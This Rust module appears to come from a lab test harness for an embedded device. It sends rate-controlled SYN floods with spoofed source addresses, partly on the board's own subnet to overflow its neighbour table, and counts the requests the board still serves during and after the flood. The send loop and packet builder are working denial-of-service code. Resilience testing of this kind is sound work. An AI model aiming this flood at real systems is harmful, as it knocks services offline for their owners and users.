//! SYNs from sources that do not exist, so many a second.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::Result;
use rand_chacha::ChaCha8Rng;
use rand_chacha::rand_core::{Rng, SeedableRng};

use crate::attack::polite::{Served, ask, ask_while};
use crate::frame::{Payload, Tcp, flag, ipv4_frame};
use crate::raw_peer::{Neighbor, RawPeer};
use crate::stage::Session;

/// SYNs are sent in bursts this often, as many as make the rate.
const TICK: Duration = Duration::from_millis(2);
/// Between two polite requests.
const PAUSE: Duration = Duration::from_millis(50);
/// Polite requests right after the flood.
pub const AFTER: usize = 10;

/// What the board did meanwhile.
#[derive(Clone, Copy, Debug)]
pub struct Outcome {
    /// SYNs that were sent.
    pub syns: u64,
    /// Requests during the flood.
    pub during: Served,
    /// The [`AFTER`] that followed at once.
    pub after: Served,
    /// And how long these took together.
    pub after_took: Duration,
}

/// Sends SYNs at a rate for a time, while requests are made, and [`AFTER`] more afterwards.
///
/// # Errors
/// If the wire fails.
pub fn beside(session: &Session, per_second: u32, time: Duration) -> Result<Outcome> {
    let peer = session.lab()?.raw_peer(6)?;
    let board = peer.find(session.address)?;
    let over = AtomicBool::new(false);
    let (during, syns) = thread::scope(|scope| {
        let flood = scope.spawn(|| {
            let sent = send(&peer, board, per_second, time);
            over.store(true, Ordering::Relaxed);
            sent
        });
        let during = ask_while(session, PAUSE, || !over.load(Ordering::Relaxed));
        let syns = flood.join().map_err(|_| anyhow::anyhow!("the flood panicked"))??;
        anyhow::Ok((during?, syns))
    })?;
    let began = Instant::now();
    let after = ask(session, AFTER)?;
    Ok(Outcome { syns, during, after, after_took: began.elapsed() })
}

fn send(peer: &RawPeer, board: Neighbor, per_second: u32, time: Duration) -> Result<u64> {
    let mut random = ChaCha8Rng::seed_from_u64(0x5f1d);
    let began = Instant::now();
    let mut sent = 0;
    loop {
        let elapsed = began.elapsed();
        let due = (elapsed.min(time).as_secs_f64() * f64::from(per_second)) as u64;
        while sent < due {
            peer.send_bytes(&spoofed_syn(&mut random, peer, board))?;
            sent += 1;
        }
        if elapsed >= time {
            return Ok(sent);
        }
        // What was sent too late is made up for in the next burst.
        thread::sleep(TICK);
    }
}

/// A SYN from an address that nobody has: one in two on the board's own network, where they are
/// more than it has room for as neighbours.
pub fn spoofed_syn(random: &mut ChaCha8Rng, peer: &RawPeer, board: Neighbor) -> Vec<u8> {
    let dice = random.next_u32();
    let [a, b, c, d] = dice.to_be_bytes();
    let source = if a & 2 == 0 {
        Ipv4Addr::new(198, 18 + (a & 1), b, c)
    } else {
        Ipv4Addr::new(192, 168, 77, 60 + d % 195)
    };
    let from = 1024 + (dice >> 8) as u16 % 60_000;
    let sequence = random.next_u32();
    let syn = Tcp { from, to: 80, sequence, flags: flag::SYN, window: 1024, ..Tcp::default() };
    ipv4_frame((peer.mac(), board.mac), source, board.address, &Payload::Tcp(syn))
}
